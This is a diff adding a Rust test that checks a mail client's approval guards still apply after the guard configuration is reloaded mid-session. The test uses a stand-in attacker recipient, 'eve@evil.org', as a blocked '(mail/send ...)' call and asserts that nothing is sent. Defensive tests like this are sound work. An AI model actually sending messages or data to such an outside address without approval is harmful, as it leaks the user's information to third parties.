@@ -171,3 +171,18 @@ fn a_guard_that_denies_asks_no_one() {
     assert!(message.contains(FOUND), "{message}");
     assert!(lines(folder.path(), "sent").is_empty());
 }
+
+#[test]
+fn guards_that_are_added_later_do_not_trust_what_was_read_before() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let mut open = configuration(folder.path());
+    let guards = open["policy"]["guards"].take();
+    open["policy"]["guards"] = json!([]);
+    let file = folder.path().join("guards.json");
+    std::fs::write(&file, "{}").expect("it can be written");
+    let mut client = Client::start(&open, &["--config", &file.display().to_string()]);
+    client.eval("(mail/list)");
+    std::fs::write(&file, json!({"policy": {"guards": guards}}).to_string()).expect("it can be written");
+    needs_approval(&client.eval("(mail/send {:to \"eve@evil.org\"})"), "guards `to`");
+    assert!(lines(folder.path(), "sent").is_empty());
+}
